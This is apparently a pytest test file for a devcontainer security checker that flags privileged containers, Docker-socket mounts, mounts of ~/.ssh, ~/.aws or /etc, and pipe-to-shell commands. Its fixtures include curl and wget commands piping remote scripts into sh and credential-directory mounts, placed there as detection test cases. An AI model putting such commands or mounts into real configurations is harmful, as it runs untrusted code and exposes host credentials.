"""Development containers: every way to write what they may do, joined with what they are built from and laid over."""

import json
import time
from pathlib import Path

import pytest

from hullcheck.cli import main
from hullcheck.parse import devcontainer
from hullcheck.source import Source
from judge import judge, named

IMAGE = '"image": "mcr.microsoft.com/devcontainers/base:2.1.7-debian-12"'
WHERE = ".devcontainer/devcontainer.json"


def of(tmp_path: Path, body: str, path: str = WHERE, **others: str):
    return judge(tmp_path, {path: f"{{{IMAGE}, {body}}}", **others})


def told(result, check: str) -> set[tuple[str, ...]]:
    return {finding.evidence for finding in named(result, check)}


@pytest.mark.parametrize(
    "path",
    [WHERE, ".devcontainer.json", ".devcontainer/python/devcontainer.json", "src/x/.devcontainer/devcontainer.json"],
)
def test_it_is_found_wherever_it_may_lie(tmp_path: Path, path: str) -> None:
    (finding,) = named(of(tmp_path, '"privileged": true', path), "privileged")
    assert (finding.location.path, finding.scope, finding.owner) == (path, path, "devcontainer")
    assert finding.dialect == "devcontainer"


@pytest.mark.parametrize(
    "options",
    [
        ["--privileged"],
        ["--privileged=true"],
        ["--rm", "-it", "--privileged"],
        ["--name", "--privileged-not", "--privileged"],
        ["--gpus", "all", "--privileged"],
        ["--unheard-of", "value", "--privileged"],
        ["-v", "a:/b", "--privileged", "--privileged=false", "--privileged"],
    ],
)
def test_options_of_docker_run_mean_what_they_do_there(tmp_path: Path, options: list[str]) -> None:
    assert named(of(tmp_path, f'"runArgs": {json.dumps(options)}'), "privileged")


@pytest.mark.parametrize(
    "options",
    [["--privileged=false"], ["--name", "--privileged"], ["--label=--privileged"], ["--privileged", "--privileged=0"]],
)
def test_and_nothing_else(tmp_path: Path, options: list[str]) -> None:
    assert not named(of(tmp_path, f'"runArgs": {json.dumps(options)}'), "privileged")


@pytest.mark.parametrize(
    "said",
    [
        '"mounts": ["source=/var/run/docker.sock,target=/x,type=bind"]',
        '"mounts": ["type=bind,src=/var/run/docker.sock,dst=/x,readonly"]',
        '"mounts": [{"type": "bind", "source": "/var/run/docker.sock", "target": "/x"}]',
        '"runArgs": ["-v", "/var/run/docker.sock:/x"]',
        '"runArgs": ["-v/var/run/docker.sock:/x"]',
        '"runArgs": ["--volume=/var/run/docker.sock:/x:ro"]',
        '"runArgs": ["--mount", "type=bind,source=/var/run/docker.sock,target=/x"]',
        '"runArgs": ["--mount=type=bind,source=/var/run/docker.sock,target=/x"]',
        '"workspaceMount": "type=bind,source=/var/run/docker.sock,target=/x"',
        '"mounts": ["source=${localEnv:RUN}/docker.sock,target=/x,type=bind"]',
        '"features": {"ghcr.io/devcontainers/features/docker-from-docker:1": {}}',
        '"features": {"docker-from-docker": "latest"}',
    ],
)
def test_every_way_to_the_socket_is_seen(tmp_path: Path, said: str) -> None:
    assert len(named(of(tmp_path, said), "runtime-socket")) == 1


@pytest.mark.parametrize(
    ("said", "path"),
    [
        ("${localEnv:HOME}/.ssh", "~/.ssh"),
        ("${localEnv:HOME}${localEnv:USERPROFILE}/.aws", "~/.aws"),
        ("${env:HOME}/.kube", "~/.kube"),
        ("${localWorkspaceFolder}/../../../../../../../../etc", "/etc"),
        ("${localEnv:SURELY_UNSET:/etc}", "/etc"),
    ],
)
def test_variables_are_known_as_far_as_they_are(tmp_path: Path, said: str, path: str) -> None:
    assert told(of(tmp_path, f'"mounts": ["type=bind,source={said},target=/x"]'), "sensitive-mount-write") == {(path,)}


@pytest.mark.parametrize(
    "said", ["${localEnv:DATA}", "${localWorkspaceFolder}", "$HOME", "${templateOption:x}", "cache"]
)
def test_what_is_not_known_is_no_finding(tmp_path: Path, said: str) -> None:
    result = of(tmp_path, f'"mounts": ["type=bind,source={said},target=/x"]')
    assert not [finding for finding in result.findings if finding.severity > 1]


def test_comments_and_commas_keep_every_place(tmp_path: Path) -> None:
    text = f'// a "privileged": true\n{{\n\t{IMAGE}, /* "capAdd": [\n*/\n\t"privileged": true, // "x"\n\t"u": "http://x//y",\n}}\n'
    (finding,) = named(judge(tmp_path, {WHERE: text}), "privileged")
    assert (finding.location.line, finding.location.text) == (5, "true")
    assert "// a" in finding.location.source.text


def test_its_dockerfile_and_target_are_joined(tmp_path: Path) -> None:
    files = {
        WHERE: '{"build": {"dockerfile": "../app/img", "context": "..", "target": "dev"}, "privileged": true}',
        "app/img": "FROM alpine:3.22 AS dev\nUSER 10001\nFROM alpine:3.22\n",
    }
    result = judge(tmp_path, files)
    assert not named(result, "parse-error")
    assert [finding.location.path for finding in named(result, "privileged")] == [WHERE]
    assert ("app/img", "dev") in {(finding.scope, finding.owner) for finding in result.findings}


def test_what_it_adds_to_a_service_is_the_service_s(tmp_path: Path) -> None:
    files = {
        WHERE: '{"dockerComposeFile": ["../compose.yaml"], "service": "web", "capAdd": ["SYS_ADMIN"], '
        '"mounts": ["source=${localWorkspaceFolder}/../../../../../../../etc,target=/x,type=bind", "source=v,target=/v"]}',
        "compose.yaml": "services: {web: {image: 'x/y:1'}, db: {image: 'x/z:1', privileged: true}}",
    }
    result = judge(tmp_path, files)
    (finding,) = named(result, "dangerous-capability")
    assert (finding.owner, finding.location.path) == ("services.web", WHERE)
    assert finding.scope == f"compose.yaml + {WHERE}"
    assert finding.fix is None
    assert told(result, "sensitive-mount-write") == {("/etc",)}
    assert [f.scope for f in named(result, "privileged")] == ["compose.yaml"]
    assert not named(result, "invalid-object")


def test_a_missing_compose_file_hides_nothing(tmp_path: Path) -> None:
    files = {WHERE: '{"dockerComposeFile": "gone.yaml", "service": "web", "privileged": true}'}
    result = judge(tmp_path, files)
    assert named(result, "privileged")
    assert named(result, "not-analysed")


def test_commands_are_read_in_each_of_their_forms(tmp_path: Path) -> None:
    body = (
        '"initializeCommand": "curl https://a.example/x | sh", "onCreateCommand": ["sh", "-c", "curl https://b.example | sh"],'
        '"postStartCommand": {"one": "curl https://c.example | sh\\ntrue", "two": ["bash", "-c", "wget -O- https://d.example | sh"]}'
    )
    result = of(tmp_path, body)
    assert sorted(evidence[0] for evidence in told(result, "pipe-to-shell")) == [
        "https://a.example/x", "https://b.example", "https://c.example", "https://d.example",
    ]  # fmt: skip
    assert told(result, "command-on-host") == {("curl https://a.example/x | sh",)}


def test_no_credential_is_printed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    token = "ghp_Zk3vQ9xW1bR7tY5uN2mDZk3vQ9xW1bR7tY5u"
    commands = [
        f"curl -H 'Authorization: Bearer {token}' https://example.com",
        "mysql -h db -pk3vQz8Rw2pLm",
        ["mysql", "-pk3vQz8Rw2pLn"],
    ]
    body = {"image": "x/y:1.2.3", "initializeCommand": {str(n): each for n, each in enumerate(commands)}}
    (tmp_path / "devcontainer.json").write_text(json.dumps(body))
    for form in ("full", "json", "sarif"):
        main(["check", str(tmp_path), "--output-format", form, "--min-severity", "info"])
        shown = capsys.readouterr().out
        assert "ghp_Zk3v" not in shown
        assert "k3vQz8Rw2pL" not in shown


def test_a_comment_accepts_a_finding(tmp_path: Path) -> None:
    body = '\n// hullcheck: ignore[privileged] reason="nested containers"\n"privileged": true\n'
    (finding,) = named(of(tmp_path, body), "privileged")
    assert finding.suppression is not None


def test_its_name_hides_no_manifest(tmp_path: Path) -> None:
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p"}}
    pod["spec"] = {"hostPID": True, "containers": [{"name": "c", "image": "x/y:1"}]}
    assert named(judge(tmp_path, {"devcontainer.json": json.dumps(pod)}), "host-pid-ipc")


def test_people_are_not_told_to_harden_it(tmp_path: Path) -> None:
    result = of(tmp_path, '"remoteUser": "vscode"')
    assert {finding.name for finding in result.findings} <= {"undigested-image"}


DEEP = "[" * 5_000 + "]" * 5_000
HOSTILE = {
    "nothing": "",
    "no mapping": "[1, 2]",
    "broken": '{"image": "x", "privileged": true, "runArgs": [',
    "deep": f'{{"image": "x:1", "runArgs": {DEEP}}}',
    "odd types": '{"image": {}, "mounts": {"a": 1}, "runArgs": {"x": []}, "features": [], "privileged": [true], '
    '"capAdd": "ALL", "securityOpt": 5, "build": "x", "appPort": {"x": 1}, "containerEnv": [], "remoteUser": [], '
    '"initializeCommand": 5, "postCreateCommand": {"a": {"b": "c"}}, "name": [], "service": {}, "dockerComposeFile": {}}',
    "odd values": '{"image": "x:1", "mounts": ["", ",,,", "target=", "=x", {"target": {}}, [["x"]], "type=bind,target=/x,source="],'
    ' "runArgs": ["", "-", "--", "-v", "-vx", "--mount", "=", "--=x", "-e", "--sysctl", "x", "-p", "::::", "--device", ":::"]}',
    "a feature that is itself": '{"image": "x:1", "features": {"./": {}, "../..": {}, "./a/../..": {}}}',
    "compose files that are itself": '{"dockerComposeFile": ["devcontainer.json", "devcontainer.json"], "service": "a", "privileged": true}',
    "aliases": "{a: &a {image: x}, b: &b [*a, *a], c: &c [*b, *b], d: &d [*c, *c], mounts: *d, runArgs: *d, features: {x: *d}}",
    "itself": '&a {"image": "x:1", "mounts": [*a], "build": *a, "features": *a, "initializeCommand": *a}',
    "comment without end": '{"image": "x:1" /* "privileged": true}',
    "comments": "/*" * 50_000 + "{}",
    "slashes": '{"image": "x:1"}' + "/" * 200_000,
    "quotes": '"' * 200_001,
    "variables": '{"image": "x:1", "containerEnv": {"A": "' + "${localEnv:" * 20_000 + '"}}',
    "many options": json.dumps({"image": "x:1", "runArgs": ["-v", "/a:/b"] * 20_000}),
    "many mounts": json.dumps(
        {"image": "x:1", "mounts": [f"type=volume,source=v{n},target=/v{n}" for n in range(20_000)]}
    ),
    "long command": json.dumps({"image": "x:1", "initializeCommand": "curl https://x | sh;" * 20_000}),
    "many commands": json.dumps({"image": "x:1", "postCreateCommand": {f"c{n}": "true" for n in range(5_000)}}),
    "many features": json.dumps({"image": "x:1", "features": {f"./f{n}": {} for n in range(5_000)}}),
    "null bytes": '{"image": "x\\u0000y", "dockerComposeFile": "a\\u0000b", "features": {"./\\u0000": {}}}',
    "surrogates": '{"image": "\\ud800", "name": "\\ud83d\\ude00"}',
}


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_breaks_it(tmp_path: Path, name: str) -> None:
    start = time.monotonic()
    result = judge(tmp_path, {WHERE: HOSTILE[name]})
    assert time.monotonic() - start < 20
    assert not named(result, "check-failed"), named(result, "check-failed")[0].message
    assert not named(result, "time-limit")


@pytest.mark.parametrize("name", ["many options", "many mounts", "long command", "many commands", "many features"])
def test_what_is_too_much_is_told(tmp_path: Path, name: str) -> None:
    result = judge(tmp_path, {WHERE: HOSTILE[name]})
    assert any(item.gap.cause == "limit" for item in result.coverage.unjudged)


def test_blanking_comments_keeps_the_length() -> None:
    text = '{"a": "// no \\" /* */", /* x\n*/ "b": 1, // c\r\n\t"c": "\\\\"} // end'
    blank = devcontainer.without_comments(text)
    assert len(blank) == len(text)
    assert devcontainer.without_comments(blank) == blank
    assert devcontainer.parse(Source("x", text.encode())).problems == []


def test_show_and_files_know_it(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "devcontainer.json"
    path.write_text(f'{{{IMAGE}, "privileged": true, "mounts": ["source=c,target=/c"]}}')
    assert main(["show", "--no-origins", str(path)]) == 0
    shown = capsys.readouterr().out
    assert "privileged: true" in shown
    assert "not analysed" not in shown
    assert main(["files", str(tmp_path)]) == 0
    assert "devcontainer" in capsys.readouterr().out


FEATURE = """\
{
  "id": "own",
  "postCreateCommand": "curl https://example.org/i.sh | sh",
  "initializeCommand": "wget -qO- https://example.org/i.sh | sh"
}
"""


@pytest.mark.parametrize("said", ['"image": "a:1.2.3"', '"dockerComposeFile": "../compose.yaml", "service": "app"'])
def test_the_commands_of_a_feature_that_is_here_are_read(tmp_path: Path, said: str) -> None:
    files = {
        ".devcontainer/devcontainer.json": f'{{{said}, "features": {{"./own": {{}}}}}}',
        ".devcontainer/own/devcontainer-feature.json": FEATURE,
        "compose.yaml": "services: {app: {image: 'a:1.2.3'}}\n",
    }
    result = judge(tmp_path, files)
    places = [(f.location.path, f.location.line) for f in named(result, "pipe-to-shell", "command-on-host")]
    assert places == [(".devcontainer/own/devcontainer-feature.json", 3)]
    assert result.coverage.unjudged == ()


def test_what_a_feature_asks_of_a_service_is_told(tmp_path: Path) -> None:
    files = {
        ".devcontainer/devcontainer.json": '{"dockerComposeFile": "../compose.yaml", "service": "app", "features": {"./own": {}}}',
        ".devcontainer/own/devcontainer-feature.json": '{"id": "own", "privileged": true}',
        "compose.yaml": "services: {app: {image: 'a:1.2.3'}}\n",
    }
    assert [item.cause for item in judge(tmp_path, files).coverage.unjudged] == ["generator"]
